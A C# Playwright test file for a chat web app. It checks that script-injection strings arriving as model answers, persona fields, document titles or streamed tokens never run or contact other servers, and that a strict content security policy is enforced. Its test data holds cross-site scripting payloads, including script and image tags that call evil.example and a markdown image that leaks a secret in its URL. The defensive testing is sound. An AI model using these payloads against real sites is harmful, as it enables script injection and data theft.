using System.Globalization;
using System.Text.RegularExpressions;
using DigitalTwin.Tests.Testing;
using Microsoft.Playwright;
using Xunit;
using static Microsoft.Playwright.Assertions;

namespace DigitalTwin.BrowserTests.Quality;

/// <summary>Nothing that a model, a visitor, an owner or a document writes runs on the page, or makes it ask another server.</summary>
public sealed partial class HostileTextTests(BrowserFixture browser, QualityTwin twin) : IClassFixture<QualityTwin>
{
    [Fact]
    public async Task No_hostile_string_does_anything_as_question_answer_or_title()
    {
        twin.Model.Model.Otherwise = request => OpenAiReply.Of([.. Pieces(request.Messages[^1].Text)]);
        await using var window = await VisitorWindow.OpenAsync(browser, twin.Address, Device.Phone);
        var page = await window.GoAsync();
        var dialogs = Dialogs(page);
        await page.AskToTheEndAsync("Load the parts that draw answers.");

        var shown = await page.EvaluateAsync<ShownTurn[]>(HostilePage.AskAll, HostileStrings.All.Select(hostile => hostile.Text).ToArray());
        await page.GetByRole(AriaRole.Button, new() { Name = "Conversations" }).ClickAsync();
        await Expect(page.Locator(".sessions li")).ToHaveCountAsync(HostileStrings.All.Count + 1);
        var titles = await page.Locator(".session-title").AllTextContentsAsync();
        var inDrawer = await page.EvaluateAsync<string[]>(HostilePage.Forbidden, "dialog");

        Assert.True(HostileStrings.All.Count >= 100);
        var faults = string.Join('\n', HostileStrings.All.Zip(shown, Faults).Where(fault => fault != ""));
        Assert.True(faults == "", faults);
        Assert.Equal(HostileStrings.All.Select(hostile => Plain(Title(hostile.Text))).Order(), titles.Select(Plain).Where(t => t != Plain("Load the parts that draw answers.")).Order());
        Assert.Empty(inDrawer);
        Assert.Empty(dialogs);
        Assert.Empty(window.Faults);
    }

    [Theory]
    [InlineData("Look: <img src=https://evil.example/p.png onerror=alert(1)> there.")]
    [InlineData("<script>fetch('https://evil.example')</script>")]
    [InlineData("See ![pixel](https://evil.example/p.png?q=secret) and [press](javascript:alert(1)).")]
    [InlineData("[press](https://evil.example/?q=1) ![x][y]\n\n[y]: https://evil.example/z.png")]
    [InlineData("```svg\n<svg onload=alert(1)>\n```\n<iframe srcdoc=x>")]
    [InlineData("| a |\n|---|\n| <b onclick=alert(1)>x</b> ![i](https://evil.example/i.png) |")]
    public async Task No_hostile_string_does_anything_at_any_point_of_its_arrival(string text)
    {
        twin.Model.Model.Otherwise = _ => LetterByLetter(text);
        await using var window = await VisitorWindow.OpenAsync(browser, twin.Address);
        var page = await window.GoAsync();
        var dialogs = Dialogs(page);
        await page.AskToTheEndAsync("Load the parts that draw answers.");
        await page.EvaluateAsync(HostilePage.Watch);

        await page.AskToTheEndAsync("Once more.");

        Assert.Empty(await page.EvaluateAsync<string[]>("window.seen"));
        Assert.Empty(dialogs);
        Assert.Empty(window.Faults);
    }

    [Theory]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("</title><script>alert(1)</script>")]
    [InlineData("</script><script>alert(1)</script>")]
    [InlineData("\"><svg onload=alert(1)>")]
    [InlineData("<!--<script>alert(1)//-->")]
    [InlineData("{{name}} {{/suggestions}} {name} $& $1")]
    [InlineData("javascript:alert(1)")]
    public async Task No_persona_or_document_does_anything(string text)
    {
        await using var own = await ModelTwin.StartAsync(settings: ("Twin:Limits:Enabled", "false"));
        using var owner = own.Twin.Owner();
        var me = TestPersona.Update(change: profile =>
        {
            (profile["name"], profile["headline"], profile["greeting"]) = (text, text, text);
            profile["suggestions"] = new System.Text.Json.Nodes.JsonArray(text);
        });
        using var put = await owner.PutAsync(new Uri("/api/owner/persona", UriKind.Relative), new StringContent(me, null, "application/json"), TestContext.Current.CancellationToken);
        Assert.True(put.IsSuccessStatusCode, $"{put.StatusCode}");
        var document = new System.Text.Json.Nodes.JsonObject { ["title"] = text, ["text"] = $"The heron of Holm weighs {text} two kilograms.", ["mediaType"] = "text/plain" };
        using var added = await owner.PostJsonAsync("/api/owner/knowledge/documents", document.ToJsonString());
        Assert.True(added.IsSuccessStatusCode, $"{added.StatusCode}");
        own.Model.Otherwise = _ => OpenAiReply.Of($"The heron of Holm weighs {text} two kilograms [1].");
        await using var window = await VisitorWindow.OpenAsync(browser, own.Twin.Address);
        var page = await window.GoAsync();
        var dialogs = Dialogs(page);

        await Expect(page.Locator("h1")).ToHaveTextAsync(text);
        await Expect(page.Locator(".headline")).ToHaveTextAsync(text);
        await Expect(page.Locator(".greeting")).ToHaveTextAsync(text);
        await Expect(page.Locator(".suggestion")).ToHaveTextAsync(text);
        await Expect(page.Locator("#question")).ToHaveAttributeAsync("placeholder", $"Ask {text} anything");
        await page.AskToTheEndAsync("What does the heron of Holm weigh?");
        await page.Locator(".answer button.chip").ClickAsync();
        await Expect(page.Locator(".citation-title")).ToContainTextAsync(text);
        await Expect(page.Locator(".citations blockquote")).ToContainTextAsync(text);

        Assert.Empty(await page.EvaluateAsync<string[]>(HostilePage.Forbidden, "body"));
        Assert.Empty(dialogs);
        Assert.Empty(window.Faults);
    }

    [Fact]
    public async Task The_policy_is_strict_and_trusted_types_are_enforced()
    {
        await using var window = await VisitorWindow.OpenAsync(browser, twin.Address);
        var page = await window.Context.NewPageAsync();

        var response = await page.GotoAsync("/");
        var refusals = await page.EvaluateAsync<string[]>(
            """
            () => {
              const tries = [
                () => { document.body.innerHTML = '<p>x</p>'; },
                () => { document.createElement('script').src = 'https://evil.example/x.js'; },
                () => { document.createElement('iframe').srcdoc = '<p>x</p>'; },
                () => { document.write('x'); },
                () => { document.body.insertAdjacentHTML('beforeend', 'x'); },
                () => { trustedTypes.createPolicy('mine', {}); },
              ];
              return tries.map(attempt => { try { attempt(); return 'allowed'; } catch (error) { return error.name; } });
            }
            """);

        Assert.Equal(
            "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; connect-src 'self'; font-src 'self'; base-uri 'none'; form-action 'self'; "
            + "frame-ancestors 'self'; require-trusted-types-for 'script'; trusted-types 'none'",
            await response!.HeaderValueAsync("content-security-policy"));
        Assert.All(refusals, refusal => Assert.Equal("TypeError", refusal));
    }

    private static List<string> Dialogs(IPage page)
    {
        var dialogs = new List<string>();
        page.Dialog += async (_, dialog) =>
        {
            dialogs.Add(dialog.Message);
            await dialog.DismissAsync();
        };
        return dialogs;
    }

    private static string Faults(HostileString hostile, ShownTurn shown)
    {
        var faults = new List<string>(shown.Faults);
        if (Plain(shown.Question) != Plain(hostile.Text))
        {
            faults.Add($"the question reads {shown.Question}");
        }

        if (!Plain(shown.Answer).Contains(Plain(hostile.Shown), StringComparison.Ordinal))
        {
            faults.Add($"the answer reads {shown.Answer}");
        }

        if (!shown.Links.SequenceEqual(hostile.Links))
        {
            faults.Add($"links to {string.Join(", ", shown.Links)}");
        }

        return faults.Count == 0 ? "" : $"{hostile}\n    {string.Join("\n    ", faults)}";
    }

    /// <summary>A session's title, as the server makes it.</summary>
    private static string Title(string question)
    {
        var line = question.ReplaceLineEndings(" ").Trim();
        return line.Length <= 80 ? line : line[..79].TrimEnd() + "…";
    }

    private static string Plain(string text) => WhiteSpace().Replace(text, "");

    /// <summary>Two parts, cut in the middle, where half a tag is still open.</summary>
    private static IEnumerable<string> Pieces(string text) => [text[..(text.Length / 2)], text[(text.Length / 2)..]];

    private static OpenAiReply LetterByLetter(string text)
    {
        var reply = OpenAiReply.Gated();
        foreach (var letter in text)
        {
            reply.Token(letter.ToString(CultureInfo.InvariantCulture)).Pause(TimeSpan.FromMilliseconds(17));
        }

        return reply.Finish().Usage(1, 1).Done();
    }

    [GeneratedRegex(@"\s+")]
    private static partial Regex WhiteSpace();

    /// <summary>What the page made of a hostile string.</summary>
    private sealed class ShownTurn
    {
        public string Question { get; set; } = "";

        public string Answer { get; set; } = "";

        public string[] Links { get; set; } = [];

        public string[] Faults { get; set; } = [];
    }
}
